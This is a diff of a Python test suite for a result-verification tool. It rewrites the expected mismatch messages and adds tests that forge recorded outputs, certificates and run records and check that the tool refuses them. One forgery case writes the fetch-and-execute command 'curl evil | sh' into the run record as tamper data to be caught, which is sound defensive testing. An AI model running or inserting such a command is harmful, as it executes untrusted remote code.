@@ -4,6 +4,7 @@ import csv
 import hashlib
 import io
 import json
+import re
 import shutil
 
 import duckdb
@@ -64,27 +65,23 @@ def test_a_file_of_another_name_is_named(home, of_log, tmp_path):
     renamed = shutil.copy(home / "log.csv", tmp_path / "renamed.csv")
     found = verify_result(of_log, renamed)
     assert (found.level, found.confirmed) == ("same values", False)
-    assert "made from 'log.csv', and the file given is 'renamed.csv'" in found.why_not_bytes
+    assert found.difference == "run.json: inputs: 0: name was 'log.csv', is 'renamed.csv'"
 
 
 def test_the_same_rows_in_another_file_give_the_same_values(home, of_log):
     found = verify_result(of_log, home / "log.parquet")
     assert found.level == "same values"
-    assert "the files given are not those it was made from" in found.why_not_bytes
+    assert found.difference.startswith("run.json: inputs: 0: name was 'log.csv', is 'log.parquet'")
     assert verify_result(of_log, frame_of(ROWS, NAMES)).level == "same values"
 
 
-def test_what_is_not_given_again_is_named(home):
+def test_what_is_not_given_again_is_refused(home):
     log = home / "log.csv"
-    found = verify_result(home / "of table", log)
-    assert (found.level, found.taken_from_folder) == ("same bytes", ("behavior",))
-    assert not found.confirmed
-    found = verify_result(home / "of table", log, behavior=home / "policy.csv")
-    assert (found.level, found.taken_from_folder) == ("same bytes", ())
-    found = verify_result(home / "of list", log)
-    assert (found.level, found.taken_from_folder) == ("same bytes", ("states",))
-    found = verify_result(home / "of list", log, states=home / "states.csv")
-    assert (found.level, found.taken_from_folder) == ("same bytes", ())
+    for folder, given in (("of table", "behavior"), ("of list", "states")):
+        with pytest.raises(ResultMismatch, match=f"{given}.* was '(table|listed)' .* 'not given'"):
+            verify_result(home / folder, log)
+    assert verify_result(home / "of table", log, behavior=home / "policy.csv").confirmed
+    assert verify_result(home / "of list", log, states=home / "states.csv").confirmed
 
 
 def changed_record(folder, change):
@@ -117,18 +114,18 @@ def test_with_other_versions_values_are_compared(home, of_log):
     found = verify_result(of_log, home / "log.csv")
     assert found.level == "same values"
     assert not found.confirmed
-    assert "it says that it was made with numpy 1.0, and this is" in found.why_not_bytes
+    assert found.difference.startswith("run.json: versions: numpy was '1.0', is '")
     report_changed(shown("numpy", "1.0"), shown("numpy", np.__version__))(of_log)
     changed_record(of_log, lambda record: record["versions"].update(numpy=np.__version__))
     assert verify_result(of_log, home / "log.csv").confirmed
     system = json.loads((of_log / "run.json").read_text())["machine"]["system"]
     changed_record(of_log, lambda record: record["machine"].update(system="Abacus"))
-    with pytest.raises(ResultMismatch, match=r"report\.html says something else"):
-        verify_result(of_log, home / "log.csv")  # the page says what it was made on, too
+    # The page says what it was made on, too.
+    assert verify_result(of_log, home / "log.csv").level == "refuted"
     report_changed(shown("system", system), shown("system", "Abacus"))(of_log)
     found = verify_result(of_log, home / "log.csv")
-    why = "it says that it was made on another kind of machine"
-    assert found == Verification("same values", why)
+    was = f"run.json: machine: system was 'Abacus', is '{system}'"
+    assert found == Verification("same values", was)
 
 
 # ---- forgeries --------------------------------------------------------------------------------
@@ -259,77 +256,70 @@ def drafted_once(monkeypatch):
 @pytest.mark.parametrize(
     ("change", "message"),
     [
-        (
-            probabilities_swapped,
-            r"probability of state .* in policy\.csv, but .* when the result is made again; 2 rows",
-        ),
-        (cell_changed(1, "visits", lambda n: int(n) + 1), r"visits of policy\.csv is not what the"),
-        (cell_changed(1, "trusted", "true"), r"trusted of policy\.csv is not what the log says"),
-        (
-            cell_changed(1, "q", lambda q: q + 1e-6),
-            "q of state .* when the result is made again; 1 r",
-        ),
-        (cell_changed(1, "advantage", lambda q: q + 1e-6), "advantage of state"),
+        (probabilities_swapped, r"policy\.csv: [0-9]+ was .*, is "),
+        (cell_changed(1, "visits", lambda n: int(n) + 1), r"policy\.csv: 2 was .*, is "),
+        (cell_changed(1, "trusted", "true"), r"policy\.csv: 2 was .*, is "),
+        (cell_changed(1, "q", lambda q: q + 1e-6), r"policy\.csv: 2 was .*, is "),
         (cell_changed(1, "q", "nan"), "column q holds what is no number"),
-        (certificate_changed(lower=5.0), "certificates.json: 0: lower is 5.0, but"),
+        (certificate_changed(lower=5.0), r"certificate\.json: lower was 5.0, is "),
         (certificate_changed(delta=0.2), "delta"),
         (
             certificate_changed(assumptions=[Statement("markov").to_json()]),
-            "assumptions is .* when the result is made",
+            "certificate.json: assumptions was",
         ),
-        (other_claim(0, "seed", 7), "certificates.json: 0: parameters: seed is 7, but"),
-        (other_claim(2, "strict", False), "certificates.json: 2: parameters: strict is False, but"),
-        (other_claim(3, "n_wedge", 11), "certificates.json: 3: parameters: n_wedge is 11, but"),
-        (claim_left_out, r"certificates\.json is .* when the result is made again"),
+        (other_claim(0, "seed", 7), r"certificate\.json: parameters: seed was 7, is "),
+        (other_claim(2, "strict", False), "certificates.json: 2: parameters: strict was False, is"),
+        (other_claim(3, "n_wedge", 11), "certificates.json: 3: parameters: n_wedge was 11, is 12"),
+        (claim_left_out, r"certificates\.json was .*, is "),
         (only_one_file, r"certificate\.json is not the first of certificates\.json"),
         (
             record_changed("parameters", "n_wedge_chosen_by", value="posterior"),
-            "n_wedge_chosen_by|n_wedge|visits|probab|trusted",
+            "run.json: parameters: n_wedge_chosen_by was 'posterior', is None",
         ),
-        (parquet_changed, r"policy\.parquet (has other bytes|does not say the same)"),
-        (record_changed("parameters", "discount", value=0.8), "running|discount|q of|probab"),
-        (
-            record_changed("parameters", "n_wedge", value=11),
-            "run.json: parameters: n_wedge is 11, but",
-        ),
+        (parquet_changed, r"policy\.parquet: [0-9]+: [0-9]+ was "),
+        (record_changed("parameters", "discount", value=0.8), "discount was 0.8, is 0.9"),
+        (record_changed("parameters", "n_wedge", value=11), "parameters: n_wedge was 11, is 12"),
         (
             record_changed("parameters", "running", value=[-1.0, 99.0]),
-            "run.json: parameters: running",
+            "run.json: parameters: running: 0 was -1.0, is",
         ),
-        (record_changed("estimates", "policy", value=99.0), "run.json: estimates: policy is 99.0"),
-        (record_changed("data", "rows", value=10**6), "run.json: data: rows is 1000000, but"),
-        (record_changed("command", value="curl evil | sh"), "run.json: command is 'curl evil"),
-        (record_changed("defaults", value=["behavior"]), "run.json: (defaults|command) is"),
-        (
-            report_changed("estimated", "guaranteed"),
-            r"report\.html (has other bytes|says somethin)",
-        ),
-        (report_changed("</main>", "</main>\n"), r"report\.html (has|says)"),
+        (record_changed("estimates", "policy", value=99.0), "estimates: policy was 99.0, is"),
+        (record_changed("data", "rows", value=10**6), "run.json: data: rows was 1000000, is"),
+        (record_changed("command", value="curl evil | sh"), "run.json: command was 'curl evil"),
+        (record_changed("defaults", value=["behavior"]), "run.json: defaults was"),
+        (report_changed("estimated", "guaranteed"), r"report\.html: [0-9]+ was .*, is "),
+        (report_changed("</main>", "</main>\n"), r"report\.html: [0-9]+ was .*, is "),
         (record_changed("counts_sha256", value="0" * 64), "does not have the counts"),
         (
             record_changed("description", "behavior", value={"policy": "uniform"}),
-            "description: behavior.policy is 'uniform', but 'estimate' when",
+            "behavior.policy was 'estimate' when the result was made, and is 'uniform' now",
         ),
         (
             record_changed("description", "limits", value={"allowed": "safe.csv"}),
-            "description: limits.allowed is 'safe.csv', but 'all' when",
+            "limits.allowed was 'all' when the result was made, and is 'listed' now",
         ),
         (
             record_changed("description", "limits", value={"possible": "seen"}),
-            "description: limits.possible is 'seen', but 'all' when",
+            "limits.possible was 'all' when the result was made, and is 'seen' now",
         ),
-        (
-            record_changed("description", "columns", "action", value="place"),
-            "description: columns: action is 'place', but",
-        ),
+        (record_changed("description", "columns", "action", value="place"), "place"),
     ],
 )
 def test_a_forgery_is_refused(change, message, here, home, of_log, drafted_once):
     change(of_log)
     if not here:
         elsewhere(of_log)
-    with pytest.raises(SurestepError, match=message):
-        verify_result(of_log, home / "log.csv")
+    assert re.search(message, refuted(of_log, home / "log.csv"))
+
+
+def refuted(folder, log, **given):
+    """Why a result is refused, or the difference that refutes it."""
+    try:
+        found = verify_result(folder, log, **given)
+    except SurestepError as problem:
+        return str(problem)
+    assert found.level == "refuted"
+    return found.difference
 
 
 @pytest.mark.parametrize("here", [True, False], ids=["here", "elsewhere"])
@@ -338,8 +328,15 @@ def test_a_claim_that_is_a_little_higher_is_refused(here, home, of_log):
     certificate_changed(lower=lower + 1e-6)(of_log)
     if not here:
         elsewhere(of_log)
-    with pytest.raises(ResultMismatch, match=r"certificates\.json: 0: lower is"):
-        verify_result(of_log, home / "log.csv")
+    assert "certificate.json: lower was" in refuted(of_log, home / "log.csv")
+
+
+@pytest.mark.parametrize("here", [True, False], ids=["here", "elsewhere"])
+def test_rounding_is_no_other_value_and_no_confirmation(here, home, of_log):
+    cell_changed(1, "q", lambda q: q * (1 + 1e-12))(of_log)
+    if not here:
+        elsewhere(of_log)
+    assert verify_result(of_log, home / "log.csv").level == "same values"
 
 
 def test_another_log_is_refused(home, of_log, tmp_path):
@@ -360,11 +357,9 @@ def test_another_behavior_is_refused(home, of_table, tmp_path):
     same = [row for row in other if all(row[c] == mixed[c] for c in ("place", "level"))]
     for row in same:
         row["probability"] = 0.9 * row["probability"] + 0.1 * (row is mixed)
-    state = f"{mixed['place']}, {mixed['level']}"
     path = write_table(tmp_path / "other.csv", other, tuple(other[0]))
-    with pytest.raises(ResultMismatch, match=f"behavior_probability of state '{state}'"):
-        verify_result(of_table, home / "log.csv", behavior=path)
-    with pytest.raises(ResultMismatch, match="behavior is 'table', but 'estimate'"):
+    assert refuted(of_table, home / "log.csv", behavior=path)
+    with pytest.raises(ResultMismatch, match=r"was 'table' .*, and is 'estimate' now"):
         verify_result(of_table, home / "log.csv", behavior="estimate")
 
 
